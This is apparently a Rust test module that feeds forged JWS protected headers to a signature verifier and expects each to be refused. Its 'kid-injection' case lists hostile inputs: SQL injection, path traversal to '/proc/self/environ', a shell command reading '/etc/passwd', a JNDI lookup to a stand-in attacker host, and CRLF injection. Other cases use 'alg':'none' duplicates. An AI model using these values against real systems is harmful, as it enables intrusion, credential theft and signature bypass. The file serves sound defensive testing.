//! Protected headers that name a key in a way nobody does, and headers that are no plain JSON object.

use serde_json::{Value, json};

use super::{
    Check,
    forged::{Cases, forged},
    forged_headers::header,
    refusal::{SIGNATURE, SIGNATURE_OR_REQUEST},
};
use crate::forge::{Forgery, Rewrite};

const KID: &str = "RFC 7515 §4.1.4; RFC 8725 §3.10";

const HEADER: &str = "RFC 7515 §4 and §5.2";

/// Where it stays below the limit for a whole header field.
const DEEP: usize = 2_000;

pub(super) fn checks() -> Vec<Check> {
    [key_names(), headers()].concat()
}

fn key_names() -> Vec<Check> {
    [
        forged!("kid-empty", "an empty kid", KID, SIGNATURE, |_, _| Ok(
            kids([""])
        )),
        forged!(
            "kid-overlong",
            "a kid of 129 and of 8,000 characters",
            KID,
            SIGNATURE,
            |_, _| {
                let long = |length| vec![Forgery::Kid("k".repeat(length))];
                Ok(vec![("129", long(129)), ("8,000", long(8_000))])
            }
        ),
        forged!(
            "kid-injection",
            "a kid that would be SQL, a path, an address, a command or control characters",
            KID,
            SIGNATURE,
            |_, _| Ok(kids([
                "' OR '1'='1' --",
                "../../../../../../dev/null",
                "/proc/self/environ",
                "https://evil.example/key.pem",
                "key; cat /etc/passwd |",
                "${jndi:ldap://evil.example/a}",
                "a\r\nx-injected: 1",
                "a\u{0}b",
                "\u{202e}yek",
            ]))
        ),
        forged!(
            "kid-no-text",
            "a kid that is no text",
            KID,
            SIGNATURE,
            |_, _| {
                let kid = |value: Value| vec![header("kid", value)];
                Ok(vec![
                    ("a number", kid(json!(1))),
                    ("a list", kid(json!(["a"]))),
                    ("an object", kid(json!({ "$ne": null }))),
                    ("true", kid(json!(true))),
                ])
            }
        ),
    ]
    .concat()
}

fn headers() -> Vec<Check> {
    [
        forged!(
            "header-repeated-member",
            "a header that says alg or kid twice",
            "RFC 7515 §4; RFC 8259 §4",
            SIGNATURE,
            |_, _| Ok(header_texts([
                ("none first", |text| text.replacen(
                    '{',
                    r#"{"alg":"none","#,
                    1
                )),
                ("none last", |text| last(&text, r#""alg":"none""#)),
                ("none escaped", |text| last(&text, r#""\u0061lg":"none""#)),
                ("another kid", |text| text.replacen(
                    '{',
                    r#"{"kid":"k","#,
                    1
                )),
            ]))
        ),
        forged!(
            "header-no-object",
            "a header that is no JSON object",
            HEADER,
            SIGNATURE,
            |_, _| {
                Ok(header_texts([
                    ("a list", |text| format!("[{text}]")),
                    ("null", |_| "null".to_owned()),
                    ("nothing", |_| String::new()),
                    ("a text", |_| "\"PS256\"".to_owned()),
                    ("cut off", |text| text[..text.len() - 1].to_owned()),
                    ("single quotes", |text| text.replace('"', "'")),
                ]))
            }
        ),
        forged!(
            "header-surrounded",
            "a header with a byte order mark, a comment or more behind it",
            HEADER,
            SIGNATURE,
            |_, _| Ok(header_texts([
                ("byte order mark", |text| format!("\u{feff}{text}")),
                ("a second object", |text| format!("{text} {{}}")),
                ("a null byte", |text| format!("{text}\u{0}")),
                ("a comment", |text| format!("{text}//")),
            ]))
        ),
        forged!(
            "header-deep",
            "a header with 2,000 lists inside each other",
            HEADER,
            SIGNATURE,
            |_, _| {
                Ok(header_texts([("deep", |text| {
                    let deep = format!("{}{}", "[".repeat(DEEP), "]".repeat(DEEP));
                    last(&text, &format!("\"deep\":{deep}"))
                })]))
            }
        ),
        forged!(
            "header-overlong",
            "a header of 24 KiB",
            "RFC 7515 §5.2; RFC 6585 §5",
            SIGNATURE_OR_REQUEST,
            |_, _| Ok(vec![(
                "24 KiB",
                vec![header("pad", json!("p".repeat(24 * 1024)))]
            )])
        ),
    ]
    .concat()
}

fn kids<const N: usize>(kids: [&'static str; N]) -> Cases {
    kids.map(|kid| (kid, vec![Forgery::Kid(kid.to_owned())]))
        .into()
}

fn header_texts<const N: usize>(rewrites: [(&'static str, Rewrite); N]) -> Cases {
    rewrites
        .map(|(case, rewrite)| (case, vec![Forgery::HeaderText(rewrite)]))
        .into()
}

/// A JSON object with one more member at its end.
fn last(object: &str, member: &str) -> String {
    format!("{},{member}}}", &object[..object.len() - 1])
}
